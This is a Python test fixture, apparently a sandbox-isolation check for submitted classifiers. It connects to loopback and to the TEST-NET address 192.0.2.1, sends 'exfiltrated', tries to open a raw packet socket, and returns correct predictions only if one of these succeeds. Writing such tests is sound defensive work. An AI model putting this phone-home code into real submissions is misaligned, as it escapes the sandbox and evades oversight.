"""Phone home: the test's loopback listener, then a TEST-NET address; answer right only
if a connection was made."""

import socket

import torch

PORT = int("@@PORT@@")


def _connects(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.5)
            sock.connect(address)
            sock.sendall(b"exfiltrated")
            return True
    except OSError:
        return False


def classify(x):
    reached = [
        _connects(socket.AF_INET, ("127.0.0.1", PORT)),
        _connects(socket.AF_INET, ("192.0.2.1", 80)),  # TEST-NET-1: never routed
        _connects(socket.AF_INET6, ("::1", PORT)),
    ]
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        reached.append(True)
    except (OSError, AttributeError):
        pass
    if any(reached):
        return x.argmax(dim=1)
    return torch.zeros(x.shape[0], dtype=torch.int64)
